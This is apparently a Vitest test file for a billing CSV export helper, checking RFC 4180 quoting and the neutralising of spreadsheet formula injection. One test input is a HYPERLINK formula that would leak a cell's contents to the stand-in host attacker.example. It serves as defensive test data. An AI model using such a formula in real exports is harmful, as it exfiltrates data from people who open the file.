import { describe, expect, it } from "vitest";
import { csvField } from "../../../src/gateway/admin/billing-csv";

/**
 * A CSV field as finance opens it in a spreadsheet: numbers as they are, negative ones included, and any
 * text a spreadsheet would run as a formula (a key's name any user chooses) shown as text instead.
 */

describe("a CSV field", () => {
  it("keeps numbers, decimal text and plain text as they are, quoting what RFC 4180 quotes", () => {
    expect(csvField(12)).toBe("12");
    expect(csvField("-12.5")).toBe("-12.5");
    expect(csvField("0.000123")).toBe("0.000123");
    expect(csvField(null)).toBe("");
    expect(csvField("my key")).toBe("my key");
    expect(csvField('a "b", c')).toBe('"a ""b"", c"');
  });

  it("starts a text a spreadsheet would take for a formula with an apostrophe", () => {
    expect(csvField('=HYPERLINK("https://attacker.example/?x="&C2,"Details")')).toBe(
      `"'=HYPERLINK(""https://attacker.example/?x=""&C2,""Details"")"`,
    );
    expect(csvField("+1")).toBe("'+1");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvField("\tcmd")).toBe("'\tcmd");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
  });
});
